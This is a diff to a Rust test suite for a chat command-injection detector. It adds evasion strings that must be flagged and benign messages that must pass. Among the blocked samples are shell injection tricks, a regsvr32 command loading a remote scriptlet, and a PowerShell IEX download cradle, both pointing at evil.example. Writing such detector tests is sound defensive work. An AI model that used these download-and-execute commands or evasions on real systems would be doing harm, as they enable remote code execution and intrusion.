@@ -171,6 +171,16 @@ fn command_injection_evasions_are_blocked() {
             "x;id${x}",
             "x;${u}whoami",
             "hello\nid",
+            "x;$'\\x69\\x64'",
+            "x;a=who;b=ami;$a$b",
+            "x;${x:-id}",
+            "x;who%5c%0aami",
+            "x;$0 -c id",
+            "x;eval id",
+            "x;whoami#",
+            "x%3Bid%20%23",
+            "x & regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
+            "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/x.ps1')",
         ],
     );
 }
@@ -205,6 +215,10 @@ fn benign_chat_passes() {
         "what?? /me waves",
         "see https://example.com/a?b=1/2 and /r/rust",
         "it costs $(more than you think",
+        "done; ls #1 priority",
+        "so; time to go & nice id card",
+        "price=$5; total is $price",
+        "join #general | #random",
     ] {
         assert_eq!(h.tag_of(payload), None, "{payload:?}");
     }
